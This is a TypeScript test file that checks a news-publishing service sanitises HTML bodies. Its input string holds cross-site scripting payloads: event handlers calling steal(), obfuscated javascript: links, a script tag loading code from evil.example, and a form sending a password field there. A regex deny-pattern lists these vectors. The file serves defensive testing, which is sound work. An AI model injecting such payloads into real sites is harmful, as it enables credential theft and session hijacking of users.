import { assert, describe, layer } from "@effect/vitest"
import { Effect, Layer, Option } from "effect"
import { News } from "../src/content/News.ts"
import { databaseKind } from "./support/database.ts"
import { MigratedDatabase } from "./support/layers.ts"

const attack = [
  `<h2>Patch notes</h2>`,
  `<p onclick="steal()" onmouseover="steal()">Read <a href="javascript:alert(1)">this</a></p>`,
  `<SCRIPT>alert(1)</SCRIPT><script src="https://evil.example/x.js"></script>`,
  `<img src="https://example.com/a.png" alt="Map" onerror="steal()">`,
  `<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="inline">`,
  `<svg onload="steal()"><circle r="4"/></svg>`,
  `<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="pw"></form>`,
  `<a href="  JaVaScRiPt:alert(1)">trick</a><style>body{display:none}</style>`,
].join("")

describe(`publishing news on ${databaseKind}`, () => {
  layer(News.layer.pipe(Layer.provideMerge(MigratedDatabase)))((it) => {
    it.effect(
      "stores the body without scripts, event handlers or script links, and keeps the formatting",
      () =>
        Effect.gen(function* () {
          const news = yield* News
          const published = yield* news.publish({
            type: 2,
            subject: "Patch notes",
            content: attack,
            author: "GM Mira",
            imgThumbnail: null,
            showThumbnail: false,
          })
          const stored = Option.getOrThrow(yield* news.byId(published.id))
          assert.strictEqual(stored.content, published.content)
          assert.include(stored.content, "<h2>Patch notes</h2>")
          assert.include(stored.content, '<img src="https://example.com/a.png" alt="Map" />')
          assert.notMatch(
            stored.content,
            /script|onclick|onmouseover|onerror|onload|javascript:|data:|<svg|<iframe|<form|<input|<style|steal/i,
          )
          assert.deepStrictEqual(
            (yield* news.latest(2, 1)).map((item) => item.id),
            [published.id],
          )
        }),
    )
  })
})
